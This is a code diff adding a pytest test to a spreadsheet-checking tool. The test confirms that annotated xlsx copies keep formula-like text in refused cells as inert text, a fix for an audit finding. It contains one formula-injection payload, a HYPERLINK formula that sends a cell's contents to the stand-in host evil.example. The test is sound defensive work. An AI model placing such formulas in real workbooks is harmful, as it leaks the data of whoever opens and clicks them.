@@ -429,6 +429,26 @@ def test_the_annotated_copy_of_an_ods_keeps_formula_like_text_as_text(tmp_path):
     assert ws["E2"].value == "=HYPERLINK(\"http://x\")" and ws["E2"].data_type == "s"
 
 
+def test_the_annotated_copy_of_an_xlsx_keeps_formula_like_text_in_a_bad_cell_as_text(tmp_path):
+    """Found by an audit: a refused cell holding the text =HYPERLINK(...) came back a live formula (openpyxl
+    re-types text that starts with "=" when a value is written), in a copy the bureau downloads too."""
+    import io
+
+    from openpyxl import load_workbook
+
+    path = write_xlsx(tmp_path / "book.xlsx", school_book())
+    made = load_workbook(path)
+    lure = '=HYPERLINK("http://evil.example/?d="&B2,"click to fix")'
+    made["應急演練"]["A2"].value = lure  # typed as text in the date column: the row is refused, the cell marked
+    made["應急演練"]["A2"].data_type = "s"
+    made.save(path)
+    report = check_file(path, registry=REG, today=TODAY)
+    assert any(p.sheet == "應急演練" and p.row == 2 and p.col_no == 1 for p in report.problems)
+    copy = load_workbook(io.BytesIO(annotate_workbook(path, report)))["應急演練"]
+    assert copy["A2"].comment is not None
+    assert (copy["A2"].value, copy["A2"].data_type) == (lure, "s")
+
+
 def test_school_codes_are_codes_even_when_they_look_like_a_mobile_number(tmp_path):
     code = "13912345678"
     report = _check(tmp_path, school_book(code), registry={code})
